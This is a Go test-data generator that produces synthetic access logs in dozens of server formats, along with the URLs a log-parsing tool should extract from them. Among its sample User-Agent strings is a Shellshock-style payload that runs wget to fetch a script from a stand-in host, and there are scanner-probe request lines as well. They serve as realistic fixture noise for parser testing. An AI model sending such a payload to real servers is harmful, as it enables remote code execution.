package foreignforms

import (
	"encoding/json"
	"fmt"
	"os"
	"slices"
	"strings"
	"time"
)

// knowledge is how much of a URL a log has.
type knowledge int

const (
	pathKnown knowledge = iota // the user has to give --base
	hostKnown                  // the scheme is that of --base
	urlKnown
)

// logForm is the log of one server as configured one way. Lines are templates with the variables of hit.variables.
type logForm struct {
	name, origin string
	knows        knowledge
	requestLine  bool // logs what the client sent, so that junk and absolute targets occur
	text         bool // lines of text, which syslog and others put a prefix before
	doubtful     bool // a reader may refuse it
	escape       func(string) string
	adjust       func(g *gen, h *hit)
	head, line   string // what the file starts with, and the line of a request
	head2, line2 string // the same from the middle of the file on, if the server was configured anew
	junk, foot   string // a line that some requests leave behind it, and the end of the file
}

// The common parts of text logs.
const (
	common   = `[$clf] "$request" $status $bytes`
	combined = common + ` "$ref" "$ua"`
)

var logForms = []logForm{
	// Apache, nginx and others in the common and combined forms.
	{name: "common", origin: "NCSA common", requestLine: true, text: true, line: "$client - $user " + common},
	{name: "combined-apache", origin: `Apache combined, quotes escaped as \"`, requestLine: true, text: true, escape: apache, line: "$client - $user " + combined},
	{name: "combined-nginx", origin: `nginx combined, quotes escaped as \x22`, requestLine: true, text: true, escape: nginx, line: "$client - $user " + combined},
	{name: "nginx-main", origin: "nginx.conf as shipped: X-Forwarded-For at the end", requestLine: true, text: true, escape: nginx,
		line: "$client - $user " + combined + ` "$xff"`},
	{name: "nginx-upstream", origin: "nginx with response times and upstreams at the end", requestLine: true, text: true, escape: nginx,
		line: "$client - $user " + combined + ` rt=0.$n uct="0.001" uht="0.012, 0.003" ua="10.0.0.5:8080, 10.0.0.6:8080" us="502, 200"`},
	{name: "ingress-nginx", origin: "ingress-nginx, upstreaminfo", requestLine: true, text: true, escape: nginx,
		line: "$client - $user " + combined + " $n 0.$n [default-web-80] [] 10.0.0.5:8080 $n 0.004 $status $uuid"},
	{name: "apache-combinedio", origin: "Apache combinedio and %D", requestLine: true, text: true, escape: apache, line: "$client - $user " + combined + " $n $n $n"},
	{name: "traefik-clf", origin: "Traefik's default: router and server URL at the end", requestLine: true, text: true, escape: apache,
		line: "$client - $user " + combined + ` $n "shop@docker" "http://172.18.0.3:80" ${n}ms`},
	{name: "forwarded-first", origin: "Apache behind a proxy: %{X-Forwarded-For}i first, a list with blanks", requestLine: true, text: true, escape: apache,
		line: "$xff - $user " + combined},
	{name: "forwarded-quoted", origin: `Apache behind a proxy: "%{X-Forwarded-For}i" and then %h`, requestLine: true, text: true, escape: apache,
		line: `"$xff" $client - $user ` + combined},
	{name: "iso-time", origin: "nginx with $time_iso8601 for $time_local", requestLine: true, text: true, escape: nginx,
		line: `$client - $user [$iso] "$request" $status $bytes "$ref" "$ua"`},
	{name: "python", origin: "Python http.server", requestLine: true, text: true, line: `$client - - [$pytime] "$request" $status -`},

	// With the virtual host.
	{name: "vhost_combined", origin: "Debian's Apache, %v:%p first", knows: urlKnown, requestLine: true, text: true, escape: apache,
		line: "$host:$port $client - $user " + combined},
	{name: "vhost-first", origin: "Apache and nginx with the host first", knows: hostKnown, requestLine: true, text: true, escape: nginx, adjust: withPort,
		line: "$authority $client - $user " + combined},
	{name: "vhost-quoted", origin: `nginx with "$http_host" first`, knows: hostKnown, requestLine: true, text: true, escape: nginx, adjust: withPort,
		line: `"$authority" $client - $user ` + combined},
	{name: "lighttpd", origin: "lighttpd's default: %h %V %u, client first, host second", knows: hostKnown, requestLine: true, text: true, escape: nginx,
		line: "$client $host $user " + combined},
	{name: "vhost-after-time", origin: "nginx with $host between time and request", knows: hostKnown, requestLine: true, text: true, escape: nginx,
		line: `$client - $user [$clf] $host "$request" $status $bytes "$ref" "$ua"`},
	{name: "nginx-whole-url", origin: `nginx with "$request_method $scheme://$host$request_uri $server_protocol"`, knows: urlKnown, text: true, escape: nginx,
		line: `$client - $user [$clf] "$method $url $proto" $status $bytes "$ref" "$ua"`},
	{name: "varnishncsa", origin: "varnishncsa: %r has the whole URL, always http", knows: urlKnown, text: true, escape: apache, adjust: plainHTTP,
		line: `$client - $user [$clf] "$method $url $proto" $status $bytes "$ref" "$ua"`},

	// Load balancers, proxies, application servers.
	{name: "haproxy-http", origin: "HAProxy, option httplog, by syslog",
		line: `$stamp lb1 haproxy[14389]: $client:33317 [$clfms] http-in~ static/srv1 10/0/30/69/109 $status 2750 - - ---- 1/1/1/1/0 0/0 "$request"`,
		junk: `$stamp lb1 haproxy[14389]: $client:33318 [$clfms] http-in~ http-in/<NOSRV> -1/-1/-1/-1/0 400 0 - - PR-- 1/1/0/0/0 0/0 "<BADREQ>"`},
	{name: "haproxy-http2", origin: "HAProxy: HTTP/2 requests have the whole URL", knows: urlKnown,
		line: `$stamp lb1 haproxy[14389]: $client:33317 [$clfms] http-in~ static/srv1 10/0/30/69/109 $status 2750 - - ---- 1/1/1/1/0 0/0 "$method $url HTTP/2.0"`},
	{name: "envoy", origin: "Envoy's default; :authority is the last but one field", knows: hostKnown, escape: apostrophe,
		line: `[$millis] "$method $target HTTP/2" $status - 0 $n $n 7 "$xff" "$ua" "$uuid" "$host" "tcp://10.0.2.1:80"`},
	{name: "istio", origin: "Istio's default text format", knows: hostKnown, escape: apostrophe,
		line: `[$millis] "$method $target HTTP/1.1" $status - via_upstream - "-" 0 $n $n 7 "$xff" "$ua" "$uuid" "$host" "10.0.2.1:80" ` +
			`outbound|80||web.default.svc.cluster.local 10.0.1.5:34000 10.0.2.9:80 10.0.1.5:51000 - default`},
	{name: "aws-elb", origin: "AWS classic load balancer, default ports are spelled", knows: urlKnown, escape: apache, adjust: spelledPort,
		line: `$micros my-lb $client:2817 10.0.0.1:80 0.000073 0.001048 0.000057 $status $status 0 $n "$method $url $proto" "$ua" ECDHE-RSA-AES128-GCM-SHA256 TLSv1.2`,
		junk: `$micros my-lb $client:2818 - -1 -1 -1 400 0 0 0 "- - - " "-" - -`},
	{name: "aws-alb", origin: "AWS application load balancer; redirect_url near the end", knows: urlKnown, escape: apache, adjust: spelledPort,
		line: `$scheme $micros app/web/50dc6c495c0c9188 $client:2817 10.0.0.1:80 0.086 0.048 0.037 $status $status 0 $n "$method $url $proto" "$ua" ECDHE-RSA-AES128-GCM-SHA256 TLSv1.2 ` +
			`arn:aws:elasticloadbalancing:us-east-2:123456789012:targetgroup/web/73e2 "Root=1-58337281-1d84" "$host" "arn:aws:acm:us-east-2:123456789012:certificate/1" 1 ` +
			`$micros "redirect" "$decoy" "-" "10.0.0.1:80" "200" "-" "-"`,
		junk: `http $micros app/web/50dc6c495c0c9188 $client:2818 - -1 -1 -1 400 - 0 0 "- http://decoy.example:80- " "-" - - - "-" "-" "-" - $micros "-" "-" "-" "-" "-" "-" "-"`},
	{name: "cloudfront", origin: "CloudFront standard log: the viewer's host is x-host-header, cs(Host) is the distribution", knows: urlKnown, escape: percent,
		head: "#Version: 1.0\n#Fields: date time x-edge-location sc-bytes c-ip cs-method cs(Host) cs-uri-stem sc-status cs(Referer) cs(User-Agent) cs-uri-query " +
			"cs(Cookie) x-edge-result-type x-edge-request-id x-host-header cs-protocol cs-bytes time-taken x-forwarded-for ssl-protocol",
		line: tabs("$date $time IAD89-C3 $n $client $method d111111abcdef8.cloudfront.net $path $status $ref $ua $q - Miss 2kP01Cgw2c== $host $scheme $n 0.338 - TLSv1.3")},
	{name: "aws-s3", origin: "S3 server access log: the host is near the end", knows: urlKnown, doubtful: true, escape: apostrophe,
		adjust: func(g *gen, h *hit) { h.scheme, h.host = "https", "media-bucket.s3.us-west-1.amazonaws.com" },
		line: `79a59df900b949e55d96a1e698fbaced media-bucket [$clf] $client - 3E57427F3EXAMPLE REST.GET.OBJECT key "$request" $status - $bytes 3462992 70 10 "$ref" "$ua" - ` +
			`s9lzHYrFp76ZVxRcpX9= SigV4 ECDHE-RSA-AES128-GCM-SHA256 AuthHeader $host TLSV1.2 - -`},
	{name: "squid", origin: "Squid's native format", knows: urlKnown,
		line: "$epoch    $n $client TCP_MISS/$status $n $method $url - HIER_DIRECT/192.0.2.80 text/html",
		junk: "$epoch  28120 $client TCP_TUNNEL/200 5435 CONNECT decoy.example:443 - HIER_DIRECT/192.0.2.81 -\n" +
			"$epoch      0 $client NONE/400 3790 NONE error:invalid-request - HIER_NONE/- text/html"},
	{name: "squid-combined", origin: "Squid, logformat combined", knows: urlKnown, text: true, escape: percent,
		line: `$client - $user [$clf] "$method $url $proto" $status $bytes "$ref" "$ua" TCP_MISS:HIER_DIRECT`},
	{name: "uwsgi", origin: "uWSGI's request log",
		line: "[pid: 1234|app: 0|req: $n/$n] $client () {44 vars in 713 bytes} [$ctime] $method $target => generated $n bytes in 7 msecs ($proto $status) 2 headers in 79 bytes (1 switches on core 0)"},
	{name: "heroku", origin: "Heroku router", knows: urlKnown, doubtful: true,
		line: `$micros heroku[router]: at=info method=$method path="$target" host=$host request_id=$uuid fwd="$xff" dyno=web.1 connect=0ms service=18ms status=$status bytes=$n protocol=$scheme`},

	// Logs that name their fields.
	{name: "iis", origin: "IIS W3C, default fields: no host", escape: plus, adjust: func(g *gen, h *hit) { h.scheme = "https" },
		head: iisHead + "date time s-ip cs-method cs-uri-stem cs-uri-query s-port cs-username c-ip cs(User-Agent) cs(Referer) sc-status sc-substatus sc-win32-status time-taken",
		line: "$date $time 10.0.0.5 $method $path $q $port - $client $ua $ref $status 0 0 $n"},
	{name: "iis-host", origin: "IIS W3C with cs-host and s-port, and other fields after a restart", knows: urlKnown, escape: plus,
		head:  iisHead + "date time s-sitename s-ip cs-method cs-uri-stem cs-uri-query s-port cs-username c-ip cs-version cs(User-Agent) cs(Referer) cs-host sc-status",
		line:  "$date $time W3SVC1 10.0.0.5 $method $path $q $port - $client $proto $ua $ref $host $status",
		head2: iisHead + "date time cs-host s-port c-ip cs-method cs-uri-query cs-uri-stem cs(Referer) sc-status",
		line2: "$date $time $host $port $client $method $q $path $ref $status"},
	{name: "iis-host-noport", origin: "IIS W3C with cs-host and without s-port", knows: hostKnown, escape: plus, adjust: withPort,
		head: iisHead + "date time c-ip cs-host cs-method cs-uri-stem cs-uri-query sc-status cs(User-Agent) cs(Referer)",
		line: "$date $time $client $authority $method $path $q $status $ua $ref"},
	{name: "zeek-http", origin: "Zeek http.log; plain HTTP by nature", knows: urlKnown, adjust: plainHTTP,
		head: "#separator \\x09\n#set_separator\t,\n#empty_field\t(empty)\n#unset_field\t-\n#path\thttp\n#open\t2026-11-26-10-00-00\n" +
			tabs("#fields ts uid id.orig_h id.orig_p id.resp_h id.resp_p trans_depth method host uri referrer version user_agent status_code") + "\n" +
			tabs("#types time string addr port addr port count string string string string string string count"),
		line: tabs("$epoch CHhAvVGS1DHFjwGM9 $client 37682 192.0.2.80 80 1 $method $host $target $ref 1.1 $ua $status"),
		foot: "#close\t2026-11-26-11-00-00"},

	// JSON, one object a line.
	{name: "json-nginx", origin: "nginx, escape=json: request line, host and scheme", knows: urlKnown, requestLine: true, escape: jsonText,
		line: `{"time_local":"$clf","remote_addr":"$client","remote_user":"$user","request":"$request","status": "$status","http_referrer":"$ref","http_user_agent":"$ua","upstream_addr":"10.0.0.5:8080","scheme":"$scheme","host":"$host"}`},
	{name: "json-nginx-parts", origin: "nginx, escape=json: uri and args apart", knows: urlKnown, escape: jsonText,
		line: `{"@timestamp":"$iso","http_referer":"$ref","scheme":"$scheme","http_host":"$host","request_method":"$method","uri":"$path","args":"$query","status":$status,"http_user_agent":"$ua"}`},
	{name: "json-nginx-nohost", origin: "nginx, escape=json: $request_uri, no host", escape: jsonText,
		line: `{ "msec": "$epoch", "remote_addr": "$client", "request_method": "$method", "request_uri": "$target", "status": "$status", "http_referer": "$ref", "http_user_agent": "$ua", "http_x_forwarded_for": "$xff", "upstream_addr": "10.0.0.5:8080" }`},
	{name: "json-nginx-noscheme", origin: "nginx, escape=json: host but no scheme", knows: hostKnown, escape: jsonText, adjust: withPort,
		line: `{"time":"$iso","remote_addr":"$client","http_referrer":"$ref","http_host":"$authority","request_uri":"$target","status":$status,"method":"$method","user_agent":"$ua"}`},
	{name: "json-caddy", origin: "Caddy: request.tls means https; Referer and Location are decoys", knows: urlKnown, escape: jsonText,
		adjust: func(g *gen, h *hit) {
			if h.scheme == "http" {
				h.port = pick(g, "", "8080")
			}
		},
		line: `{"level":"info","ts":$epoch,"logger":"http.log.access","msg":"handled request","request":{"remote_ip":"$client","remote_port":"41342","client_ip":"$client","proto":"$proto","method":"$method",` +
			`"host":"$authority","uri":"$target","headers":{"User-Agent":["$ua"],"Referer":["$ref"]}$tls},"bytes_read":0,"duration":0.000929,"size":$n,"status":$status,"resp_headers":{"Location":["$decoy"]}}`},
	{name: "json-traefik", origin: `Traefik: & is \u0026, ServiceURL is the backend`, knows: urlKnown,
		escape: func(s string) string { return strings.ReplaceAll(jsonText(s), "&", `\u0026`) },
		line: `{"ClientAddr":"$client:41076","ClientHost":"$client","ClientUsername":"-","DownstreamStatus":$status,"Duration":559593,"RequestAddr":"$host","RequestHost":"$host","RequestMethod":"$method",` +
			`"RequestPath":"$target","RequestPort":"-","RequestProtocol":"$proto","RequestScheme":"$scheme","RouterName":"web@docker","ServiceURL":"http://10.0.1.8:8000","StartUTC":"$millis","level":"info","msg":"","request_Referer":"$ref","request_User-Agent":"$ua"}`},
	{name: "json-apache", origin: "Apache, %U and %q, which has its own question mark; host %V, no scheme", knows: hostKnown, escape: jsonText,
		line: `{"time":"[$clf]","remoteIP":"$client","host":"$host","request":"$path","query":"$search","method":"$method","status":"$status","userAgent":"$ua","referer":"$ref"}`},
	{name: "json-gcp", origin: "Google Cloud load balancer: httpRequest.requestUrl", knows: urlKnown, escape: jsonText,
		line: `{"httpRequest":{"latency":"0.02s","referer":"$ref","remoteIp":"$client","requestMethod":"$method","requestUrl":"$url","serverIp":"10.0.0.5","status":$status,"userAgent":"$ua"},"insertId":"$uuid","timestamp":"$micros"}`},
	{name: "json-cloudflare", origin: "Cloudflare Logpush, HTTP requests", knows: urlKnown, escape: jsonText,
		line: `{"ClientIP":"$client","ClientRequestHost":"$host","ClientRequestMethod":"$method","ClientRequestReferer":"$ref","ClientRequestScheme":"$scheme","ClientRequestURI":"$target","ClientRequestUserAgent":"$ua","EdgeResponseStatus":$status,"EdgeStartTimestamp":"$millis"}`},
	{name: "json-istio", origin: "Istio's JSON format: authority and path", knows: hostKnown, escape: jsonText,
		line: `{"start_time":"$millis","method":"$method","path":"$target","protocol":"HTTP/2","response_code":$status,"user_agent":"$ua","authority":"$host","upstream_host":"10.0.2.1:80","x_forwarded_for":"$xff","request_id":"$uuid"}`},
	{name: "json-docker", origin: "Docker json-file around the common form", requestLine: true, doubtful: true, escape: jsonText,
		line: `{"log":"$client - $user [$clf] \"$request\" $status $bytes\n","stream":"stdout","time":"$micros"}`},
}

const iisHead = "#Software: Microsoft Internet Information Services 10.0\n#Version: 1.0\n#Date: 2026-11-26 09:00:00\n#Fields: "

func tabs(s string) string { return strings.ReplaceAll(s, " ", "\t") }

func withPort(g *gen, h *hit)    { h.port = pick(g, "", "", "8443") }
func spelledPort(g *gen, h *hit) { h.port = h.portNumber() }
func plainHTTP(g *gen, h *hit)   { h.scheme = "http" }

// Each server escapes what clients send in its own way.

func nginx(s string) string  { return strings.NewReplacer(`"`, `\x22`, `\`, `\x5C`).Replace(s) }
func apache(s string) string { return strings.NewReplacer(`"`, `\"`, `\`, `\\`).Replace(s) }
func plus(s string) string   { return strings.ReplaceAll(s, " ", "+") }
func percent(s string) string {
	return strings.NewReplacer(" ", "%20", `"`, "%22", `\`, "%5C").Replace(s)
}
func apostrophe(s string) string { return strings.ReplaceAll(s, `"`, "'") }

func jsonText(s string) string {
	var b strings.Builder
	e := json.NewEncoder(&b)
	e.SetEscapeHTML(false)
	_ = e.Encode(s) // a string always has a JSON form
	return b.String()[1 : b.Len()-2]
}

// hit is one request to a server.
type hit struct {
	client, user, status, bytes string // Apache logs an empty user name as ""
	at                          time.Time
	scheme, host                string
	port                        string // empty where the log doesn't show it and the scheme's default applies
	method, proto               string
	target                      string // path and query, or a whole URL if absolute is set
	absolute                    bool
	request                     string // the request line
	junk                        bool   // the request line names no URL
	referrer, ua                string
}

func (h hit) authority() string {
	if h.port == "" {
		return h.host
	}
	return h.host + ":" + h.port
}

func (h hit) portNumber() string {
	switch {
	case h.port != "":
		return h.port
	case h.scheme == "http":
		return "80"
	}
	return "443"
}

// expand fills a template with the parts of h.
func (g *gen) expand(template string, h hit, escape func(string) string) string {
	if escape == nil {
		escape = func(s string) string { return s }
	}
	path, query, found := strings.Cut(h.target, "?")
	search, dashed := "", "-"
	if found {
		search, dashed = "?"+query, query
	}
	request, user, tls := h.request, h.user, ""
	if strings.HasPrefix(template, "{") { // in text, what needs escapes has them already
		request, user = escape(request), escape(user)
	}
	if h.scheme == "https" {
		tls = `,"tls":{"resumed":false,"version":772,"proto":"h2","server_name":"` + h.host + `"}`
	}
	variables := map[string]string{
		"client": h.client, "user": user, "status": h.status, "bytes": h.bytes, "method": h.method, "proto": h.proto, "request": request,
		"scheme": h.scheme, "host": h.host, "authority": h.authority(), "port": h.portNumber(), "url": escape(h.scheme + "://" + h.authority() + h.target),
		"target": escape(h.target), "path": escape(path), "query": escape(query), "search": escape(search), "q": dashed, "tls": tls,
		"ref": escape(h.referrer), "ua": escape(h.ua), "decoy": g.decoy("more"),
		"clf": h.at.Format("02/Jan/2006:15:04:05 -0700"), "clfms": h.at.Format("02/Jan/2006:15:04:05.000"), "pytime": h.at.Format("02/Jan/2006 15:04:05"),
		"iso": h.at.Format("2006-01-02T15:04:05+00:00"), "millis": h.at.Format("2006-01-02T15:04:05.000Z"), "micros": h.at.Format("2006-01-02T15:04:05.000000Z"),
		"stamp": h.at.Format(time.Stamp), "ctime": h.at.Format(time.ANSIC), "date": h.at.Format("2006-01-02"), "time": h.at.Format("15:04:05"),
		"epoch": fmt.Sprintf("%d.%03d", h.at.Unix(), g.IntN(1000)), "uuid": fmt.Sprintf("%08x-1b2c-4d5e-8f90-%08x", g.Uint32(), g.Uint32()),
		"xff": pick(g, "-", "203.0.113.9", "203.0.113.9, 10.0.0.1", "2001:db8::9, 198.51.100.1, 10.0.0.1", "unknown, 203.0.113.9"),
	}
	return os.Expand(template, func(name string) string {
		if name == "n" {
			return fmt.Sprint(100 + g.IntN(900))
		}
		return variables[name]
	})
}

// hits returns the requests of a file, at least three of which name a URL.
func (g *gen) hits(f logForm) (hits []hit) {
	at := time.Date(2026, time.November, 26, 9, g.IntN(60), 0, 0, time.UTC)
	for plain := 0; plain < 3 || g.chance(70); {
		at = at.Add(time.Duration(g.IntN(90)) * time.Second)
		h := hit{
			client: g.ip(), at: at, user: pick(g, "-", "-", "-", "frank", "John Smith", `""`), status: pick(g, "200", "200", "304", "301", "404", "499"), bytes: pick(g, "0", "5316", "-"),
			scheme: pick(g, "https", "https", "http"), host: pick(g, g.host(), g.host(), g.host(), g.host(), "[2001:db8::80]"),
			method: pick(g, "GET", "GET", "GET", "HEAD", "POST"), target: g.path(), proto: pick(g, "HTTP/1.1", "HTTP/1.1", "HTTP/2.0", "HTTP/1.0", "HTTP/3.0"),
			referrer: pick(g, "-", g.decoy("ref"), g.decoy("ref"), `https://decoy.example/?q="a b"`),
			ua: pick(g, "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/142.0 Safari/537.36", "curl/8.5.0", "-",
				"Mozilla/5.0 (compatible; Bot/1.0; +https://decoy.example/bot)", `Mozilla/5.0 "quoted" agent`, `" "GET /decoy/agent HTTP/1.1" 200 7`, `back\slash`,
				`() { :; }; /bin/sh -c "wget http://decoy.example/x.sh"`),
		}
		if f.adjust != nil {
			f.adjust(g, &h)
		}
		if g.chance(8) {
			h.target = "/" + h.target // from a scanner
		}
		switch {
		case !f.requestLine:
		case g.chance(8):
			h.target, h.absolute = "http://proxied.example"+h.target, true
		case g.chance(16):
			h.junk = true
			h.request = pick(g, "-", "", `\x16\x03\x01\x02\x00\x01\x00\x01\xFC\x03\x03`, `\x03\x00\x00/*\xE0\x00\x00\x00\x00\x00Cookie: mstshash=Administr`, "SSH-2.0-Go", "t3 12.1.2",
				"CONNECT decoy.example:443 HTTP/1.1", "OPTIONS * HTTP/1.1", "PRI * HTTP/2.0", "OPTIONS sip:nm SIP/2.0", "MGLNDD_203.0.113.5_443")
			h.status, h.referrer, h.ua = "400", "-", "-"
		}
		if f.requestLine && f.knows == hostKnown && g.chance(5) {
			h.host, h.port = "-", "" // HTTP/1.0 without a Host header
		}
		if !h.junk {
			h.request = h.method + " " + h.target + " " + h.proto
			plain++
		}
		hits = append(hits, h)
	}
	return hits
}

func (g *gen) log() File {
	if g.chance(3) {
		return g.noLog()
	}
	form := logForms[g.IntN(len(logForms))]
	hits := g.hits(form)
	f := File{Telling: !form.doubtful, Why: form.origin}
	for _, h := range hits {
		switch {
		case h.junk:
		case h.absolute:
			f.Want = append(f.Want, h.target)
		case form.knows == urlKnown:
			f.Want = append(f.Want, h.scheme+"://"+h.authority()+h.target)
		case form.knows == hostKnown && h.host != "-":
			f.Want = append(f.Want, "https://"+h.authority()+h.target)
		default:
			f.Want = append(f.Want, "https://base.example"+h.target)
		}
	}

	var traits []string
	trait := func(percent int, name string) bool {
		if !g.chance(percent) {
			return false
		}
		traits = append(traits, name)
		return true
	}
	if form.knows != urlKnown { // the path of the base has no part in the URLs
		f.Flags = []string{"--base", pick(g, "https://base.example/", "https://base.example", "https://base.example/shop/")}
	}
	if form.knows == hostKnown {
		traits = append(traits, "schemeless")
	}
	if form.knows == pathKnown && !slices.ContainsFunc(hits, func(h hit) bool { return h.absolute }) && trait(10, "nobase") {
		f.Flags, f.Want, f.Telling = nil, nil, false
	}

	var lines []string
	add := func(s string) { lines = append(lines, strings.Split(s, "\n")...) }
	if form.head != "" {
		add(form.head)
	}
	for i, h := range hits {
		line := form.line
		if form.line2 != "" && i >= len(hits)/2 {
			line = form.line2
			if i == len(hits)/2 {
				add(form.head2)
			}
		}
		add(g.expand(line, h, form.escape))
		if form.junk != "" && g.chance(20) {
			add(g.expand(form.junk, h, form.escape))
		}
	}
	if form.foot != "" {
		add(form.foot)
	}
	if form.text && g.chance(40) {
		lines = g.carried(lines, trait)
		f.Telling = f.Telling && !strings.Contains(strings.Join(traits, "/"), "carrier-")
	}
	if trait(10, "blanklines") {
		lines = slices.Insert(lines, 1+g.IntN(len(lines)-1), "")
	}
	eol := "\n"
	if trait(12, "crlf") {
		eol = "\r\n"
	}
	text := strings.Join(lines, eol)
	if !trait(12, "nofinaleol") {
		text += eol
	}
	f.Data = []byte(text)
	f.Name = joinName("log", form.name, strings.Join(traits, "/"))
	if len(traits) > 0 {
		f.Why += "; " + strings.Join(traits, ", ")
	}
	return f
}

// carried returns the lines as syslog, a container engine or a shell hands them on.
func (g *gen) carried(lines []string, trait func(int, string) bool) []string {
	prefix := ""
	switch {
	case trait(20, "syslog3164"):
		prefix = pick(g, "", "<190>") + "Nov 26 09:30:00 web1 nginx: "
	case trait(15, "syslog5424"):
		prefix = "<190>1 2026-11-26T09:30:00.123Z web1 nginx 1234 - - "
	case trait(15, "carrier-cri"): // Kubernetes
		prefix = "2026-11-26T09:30:00.123456789Z stdout F "
	case trait(15, "carrier-compose"): // docker compose logs
		prefix = "web-1  | "
	case trait(25, "tailheader"): // tail -n 100 *.log
		lines = slices.Insert(lines, 0, "==> /var/log/nginx/access.log <==")
	case trait(35, "cuthead"): // tail -c
		lines = slices.Insert(lines, 0, `ko) Chrome/142.0 Safari/537.36"`)
	case trait(50, "cuttail"): // copied while the server wrote
		lines = append(lines, "203.0.113.7 - - [26/Nov/2026:1")
	}
	for i := range lines {
		lines[i] = prefix + lines[i]
	}
	return lines
}

// noLog returns a log of something other than requests.
func (g *gen) noLog() File {
	kind := pick(g, "auth", "application", "kernel", "jsonapp")
	text := map[string]string{
		"auth":        "Nov 26 10:00:01 web1 sshd[812]: Accepted publickey for ada from 203.0.113.7 port 50122 ssh2\nNov 26 10:00:09 web1 sshd[812]: Disconnected from user ada 203.0.113.7 port 50122\n",
		"application": "2026-11-26 10:00:01,123 INFO [main] Server started on port 8080\n2026-11-26 10:00:02,456 WARN [pool-1] slow query: 1200 ms\n2026-11-26 10:00:03,789 ERROR [pool-1] java.lang.NullPointerException\n",
		"kernel":      "[    0.000000] Linux version 6.12.0\n[    0.004000] Calibrating delay loop... 5200.00 BogoMIPS\n[    1.200000] eth0: link up, 1000 Mbps, full duplex\n",
		"jsonapp":     "{\"level\":\"info\",\"ts\":1790000000.1,\"msg\":\"server started\",\"port\":8080}\n{\"level\":\"warn\",\"ts\":1790000001.2,\"msg\":\"cache is full\",\"entries\":1000}\n",
	}[kind]
	return File{Name: joinName("nolog", kind), Data: []byte(text), Why: "a log without requests"}
}
